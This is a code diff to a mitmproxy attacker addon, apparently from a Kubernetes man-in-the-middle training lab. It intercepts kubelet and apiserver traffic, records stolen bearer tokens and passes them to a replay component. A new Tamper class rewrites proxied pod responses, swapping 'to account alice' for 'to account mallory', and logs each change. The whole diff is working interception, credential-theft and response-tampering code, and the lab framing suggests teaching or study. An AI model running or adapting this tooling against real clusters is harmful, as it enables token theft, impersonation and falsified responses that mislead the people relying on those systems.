@@ -15,6 +15,11 @@ import there). Hooks used, in the order mitmproxy calls them per connection:
 6. ``client_disconnected``     a victim that completed the handshake but hung up without a request
                                refused our certificate after the handshake (miniapi verifies the
                                kubelet's certificate right after it; Go aborts inside it, case 1)
+
+Two more addons act instead of only looking: :class:`Tamper` (below) rewrites a phrase of the pod
+pages the apiserver proxies (scenario 4), lab/attacker/giveup.py passes clients that verify the
+apiserver through untouched (scenarios 5, 9), and lab/attacker/replay.py replays stolen
+service-account tokens (scenario 5).
 """
 
 from __future__ import annotations
@@ -27,8 +32,11 @@ from typing import Any
 from mitmproxy import connection, http, tls
 
 from lab.attacker import decode, loot
+from lab.attacker.giveup import GiveUp
+from lab.attacker.replay import Replay
 
 LOOT = Path(os.environ.get("LAB_LOOT", "/loot/loot.jsonl"))
+PODS = os.environ.get("LAB_CLUSTER_CIDR", "10.244.0.0/16")  # the apiserver proxy's pod connections go here
 READY = Path("/run/lab/ready")  # lab/attacker/run.py adds the iptables rules once this exists
 
 
@@ -48,8 +56,9 @@ def _client(flow_or_data: Any) -> str:
 
 
 class Loot:
-    def __init__(self) -> None:
+    def __init__(self, replay: Replay) -> None:
         self._asked: set[str] = set()  # client connections that sent at least one request
+        self.replay = replay
 
     def running(self) -> None:
         loot.record(LOOT, "started", mode="intercept", pid=os.getpid())
@@ -81,7 +90,8 @@ class Loot:
         if token:
             say(f"STOLEN bearer token from {_client(flow)} to {_server(flow)}: {decode.describe_token(token)}")
             loot.record(LOOT, "bearer-token", client=_client(flow), server=_server(flow), token=token,
-                        words=decode.describe_token(token))
+                        fingerprint=decode.fingerprint(token), words=decode.describe_token(token))
+            self.replay.bearer_token(token, _server(flow))
         run = decode.run_target(flow.request.path)
         if run and flow.request.method == "POST":
             say(f"command sent to {run[0]}: {run[1]!r}")
@@ -104,6 +114,9 @@ class Loot:
             self._lines(flow, "pods", "pods on the node", decode.pods_summary(body))
         elif run := decode.run_target(path):
             self._lines(flow, "run-output", f"output of {run[0]}", decode.text_lines(body))
+        elif decode.in_network(_server(flow).rpartition(":")[0], PODS):
+            self._lines(flow, "pod-response", f"the pod's answer to {flow.request.method} {path}",
+                        decode.text_lines(body, limit=10), status=flow.response.status_code)
 
     def _lines(self, flow: http.HTTPFlow, kind: str, what: str, lines: Iterable[str], **extra: Any) -> None:
         lines = list(lines)
@@ -152,4 +165,24 @@ class _LogStream:
         return chunk
 
 
-addons = [Loot()]
+class Tamper:
+    """Scenario 4: a pod page proxied by the apiserver (plain HTTP, or ``https:`` unverified) is
+    changed on its way back: ``to account alice`` becomes ``to account mallory`` (decode.tamper).
+    Runs after :class:`Loot`, which recorded the original."""
+
+    def response(self, flow: http.HTTPFlow) -> None:
+        if flow.response is None or flow.response.stream or not decode.in_network(_server(flow).rpartition(":")[0],
+                                                                                   PODS):
+            return
+        changed = decode.tamper(flow.response.content or b"")
+        if changed is None:
+            return
+        flow.response.content = changed  # mitmproxy fixes Content-Length
+        words = f"{decode.TAMPER_FROM.decode()!r} -> {decode.TAMPER_TO.decode()!r}"
+        say(f"ALTERED the answer of {_server(flow)} to {flow.request.method} {flow.request.path}: {words}")
+        loot.record(LOOT, "altered", client=_client(flow), server=_server(flow), path=flow.request.path,
+                    change=words)
+
+
+_replay = Replay()
+addons = [Loot(_replay), GiveUp(), Tamper()]
